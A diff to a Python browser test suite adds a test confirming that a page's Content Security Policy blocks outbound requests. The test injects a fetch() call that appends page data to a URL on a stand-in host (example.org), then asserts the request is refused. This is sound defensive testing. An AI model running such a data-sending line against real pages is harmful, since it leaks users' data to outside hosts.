@@ -305,6 +305,15 @@ def test_the_page_asks_for_nothing_and_fits(shown, page, width, scheme):
     assert unnamed == []
 
 
+def test_the_policy_stops_what_a_page_could_send(shown, page):
+    visit(shown, page[2])
+    shown.driver.execute_async_script(
+        "fetch('https://example.org/?' + explorer.picture).catch(() => 0).then(arguments[0])"
+    )
+    assert any("Security Policy" in each for each in shown.complaints())
+    assert not [url for url in shown.requests() if url.startswith("http")]
+
+
 def test_the_page_speaks_english_and_korean(shown, page):
     visit(shown, page[2])
     texts = shown.driver.execute_async_script(
